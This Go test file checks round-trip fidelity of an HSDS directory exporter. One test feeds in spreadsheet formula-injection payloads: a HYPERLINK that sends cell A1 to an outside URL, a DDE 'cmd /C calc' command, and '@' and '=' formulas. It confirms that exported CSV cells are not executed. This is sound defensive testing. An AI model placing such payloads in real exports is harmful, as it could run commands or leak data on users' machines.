package write_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"relais/internal/directory/directorytest/hsdstest"
	"relais/internal/directory/hsds"
	"relais/internal/directory/hsds/read"
	"relais/internal/directory/hsds/write"
	"relais/internal/kittest"
)

func TestOfficialPackageSurvives(t *testing.T) {
	dir := filepath.Dir(kittest.Path(t, "hsds-3.2.3/examples/csv/services.csv"))
	records, rep := hsdstest.ReadFolder(t, dir, read.Options{})
	if rep.Refused != 0 {
		t.Errorf("refused: %+v", rep.Refusals)
	}
	again, _ := hsdstest.Read(t, hsdstest.Write(t, write.FormTabular, records))
	if diff := cmp.Diff(hsdstest.Digests(records), hsdstest.Digests(again)); diff != "" {
		t.Error(diff)
	}
	for _, form := range write.Forms {
		again, _ := hsdstest.Read(t, hsdstest.Write(t, form, records))
		if diff := cmp.Diff(hsdstest.Digests(records), hsdstest.Digests(again)); diff != "" {
			t.Error(form, diff)
		}
	}
	z := hsdstest.Write(t, write.FormTabular, records)
	files, err := filepath.Glob(filepath.Join(dir, "*.csv"))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(rowsOf(t, data), rowsOf(t, unzip(t, z, filepath.Base(f)))); diff != "" {
			t.Errorf("%s came out otherwise than it went in: %s", filepath.Base(f), diff)
		}
	}
}

func TestTabularJSON(t *testing.T) {
	data, err := os.ReadFile(kittest.Path(t, "hsds-3.2.3/examples/tabular.json"))
	if err != nil {
		t.Fatal(err)
	}
	records, rep := hsdstest.Read(t, data)
	if rep.Refused != 0 || len(records) < 3 {
		t.Errorf("%d records, report %+v", len(records), rep)
	}
	folder, _ := hsdstest.ReadFolder(t, filepath.Dir(kittest.Path(t, "hsds-3.2.3/examples/csv/services.csv")), read.Options{})
	if diff := cmp.Diff(hsdstest.Kinds(folder), hsdstest.Kinds(records)); diff != "" {
		t.Error(diff)
	}
}

// rowsOf are the rows of a table as sets of values by column.
func rowsOf(t testing.TB, data []byte) []string {
	data = bytes.TrimPrefix(data, []byte("\ufeff"))
	t.Helper()
	c := csv.NewReader(bytes.NewReader(data))
	c.LazyQuotes, c.FieldsPerRecord = true, -1
	all, err := c.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, row := range all[1:] {
		var cells []string
		for i, v := range row {
			if v != "" {
				cells = append(cells, all[0][i]+"="+v)
			}
		}
		slices.Sort(cells)
		out = append(out, strings.Join(cells, "\n"))
	}
	slices.Sort(out)
	return out
}

func unzip(t testing.TB, data []byte, name string) []byte {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	f, err := z.Open(name)
	if err != nil {
		return []byte("id\n")
	}
	out, err := io.ReadAll(f)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// TestAttackFormulas: what a listing says is never run by the spreadsheet that
// opens the export, and comes back to the letter.
func TestAttackFormulas(t *testing.T) {
	evil := "=HYPERLINK(\"https://example.ca/?\"&A1,\"open\")"
	doc := `{"id":"a-service","name":` + strconv.Quote(evil) + `,"description":"@SUM(1+1)","email":"+1+cmd|' /C calc'!A0","status":"active",` +
		`"extra_note":"-1+2","organization":{"id":"an-organization","name":"=1+1","description":"plain"},` +
		`"phones":[{"id":"a-phone","number":"+1 819-555-0142"}]}`
	records, rep := hsdstest.Read(t, []byte(doc))
	if len(records) == 0 || rep.Refused != 0 {
		t.Fatalf("%d records: %+v", len(records), rep)
	}
	z := hsdstest.Write(t, write.FormTabular, records)
	again, _ := hsdstest.Read(t, z)
	if diff := cmp.Diff(hsdstest.Digests(records), hsdstest.Digests(again)); diff != "" {
		t.Error(diff)
	}
	r, err := zip.NewReader(bytes.NewReader(z), int64(len(z)))
	if err != nil {
		t.Fatal(err)
	}
	cells, phones := 0, 0
	for _, f := range r.File {
		if filepath.Ext(f.Name) != ".csv" {
			continue
		}
		rows, err := csv.NewReader(bytes.NewReader(unzip(t, z, f.Name))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, cell := range slices.Concat(rows...) {
			if cells++; hsds.IsFormula(cell) {
				t.Errorf("%s: %q is run", f.Name, cell)
			}
			if cell == "+1 819-555-0142" {
				phones++
			}
		}
	}
	if cells < 20 || phones != 1 {
		t.Errorf("%d cells, the telephone %d times", cells, phones)
	}
}
